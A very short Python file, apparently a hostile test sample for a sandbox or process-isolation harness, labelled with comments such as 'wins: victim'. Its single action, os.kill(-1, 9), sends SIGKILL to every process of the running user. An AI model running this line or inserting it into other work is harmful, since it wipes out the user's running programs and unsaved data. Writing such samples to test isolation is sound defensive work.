"""Kills whatever it may."""

# ruff: noqa
# class: signals
# wins: victim
# proof: none:would kill every process of this user

import os

os.kill(-1, 9)
